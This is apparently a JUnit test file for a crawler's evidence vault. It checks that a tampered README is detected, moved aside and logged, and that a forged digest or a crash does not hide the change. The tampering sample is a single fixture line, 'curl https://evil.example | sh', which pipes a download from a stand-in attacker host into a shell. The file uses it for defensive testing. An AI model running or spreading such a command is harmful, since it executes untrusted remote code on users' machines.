package zhicha.crawler.evidence;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.ZoneOffset;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import zhicha.crawler.evidence.folder.VaultFolder;
import zhicha.crawler.evidence.manifest.Sha256;
import zhicha.crawler.evidence.verify.Finding;
import zhicha.crawler.evidence.verify.Finding.Kind;
import zhicha.crawler.evidence.verify.VaultVerifier;
import zhicha.crawler.evidence.verify.VerificationReport;

/** The README tells which commands to type: nobody else's text may stand there and be vouched for. */
class ReadmeTest {
    private static final Clock CLOCK = Clock.fixed(Samples.START, ZoneOffset.UTC);
    private static final String THEIRS = "To check this folder: curl https://evil.example | sh\n";

    @TempDir
    private Path root;

    private Path readme = Path.of("");

    @BeforeEach
    void fill() throws IOException {
        open();
        readme = new VaultFolder(root).readme();
    }

    private void open() throws IOException {
        try (Vault vault = Vault.open(root, CLOCK)) {
            vault.seal(List.of(Samples.page("https://shop.example/1", "<h1>积木</h1>")), Samples.CONTEXT);
        }
    }

    @Test
    void aStrangersTextIsMovedAsideAndNamedInTheChain() throws IOException {
        Files.writeString(readme, THEIRS);
        assertEquals(List.of(Kind.FILE_ALTERED + " README.txt"), found());
        open();
        assertArrayEquals(VaultFolder.readmeText(), Files.readAllBytes(readme));
        String aside = new VaultFolder(root).asides().getFirst();
        assertEquals(THEIRS, Files.readString(root.resolve(aside)));
        VerificationReport report = VaultVerifier.verify(root);
        assertTrue(report.holds(), report.findings()::toString);
        String note = report.notes().getFirst();
        assertTrue(note.contains("README.txt") && note.contains(aside), note);
        open();
        assertEquals(4, VaultVerifier.verify(root).captures(), "three captures and one note");
        Files.writeString(root.resolve(aside), "gone");
        assertEquals(List.of(Kind.FILE_ALTERED + " " + aside), found());
    }

    /** Whoever can write README.txt can write HEAD.json too. */
    @Test
    void theDigestInTheHeadDoesNotMakeAStrangersTextOurs() throws IOException {
        String right = Sha256.of(Files.readAllBytes(readme));
        Files.writeString(readme, THEIRS);
        Path head = new VaultFolder(root).head();
        Files.writeString(head, Files.readString(head).replace(right, Sha256.of(Files.readAllBytes(readme))));
        assertEquals(List.of(Kind.FILE_ALTERED + " README.txt"), found());
        open();
        assertEquals(List.of(), found());
    }

    @Test
    void aKillBetweenTheMovingAndTheNoteLosesNeither() throws IOException {
        Files.writeString(readme, THEIRS);
        open();
        // as if the note had not come to the disk, and the stranger's text still stood there
        Path manifests = root.resolve("2026-11-22/manifests.txt");
        List<String> lines = Files.readAllLines(manifests);
        Files.writeString(manifests, lines.getFirst() + "\n");
        Files.delete(new VaultFolder(root).head());
        Files.writeString(readme, THEIRS);
        open();
        VerificationReport report = VaultVerifier.verify(root);
        assertTrue(report.holds(), report.findings()::toString);
        assertTrue(report.notes().toString().contains("README.txt"), report.notes()::toString);
    }

    @Test
    void aTextWithoutEndIsNotRead() throws IOException {
        try (var out = new java.io.RandomAccessFile(readme.toFile(), "rw")) {
            out.setLength(3L << 30);
        }
        assertEquals(List.of(Kind.FILE_ALTERED + " README.txt"), found());
        Files.delete(readme);
        assertEquals(List.of(Kind.FILE_MISSING + " README.txt"), found());
        open();
        assertFalse(found().stream().anyMatch(one -> one.contains("README")));
    }

    private List<String> found() throws IOException {
        return VaultVerifier.verify(root).findings().stream()
                .map((Finding one) -> one.kind() + " " + one.file())
                .toList();
    }
}
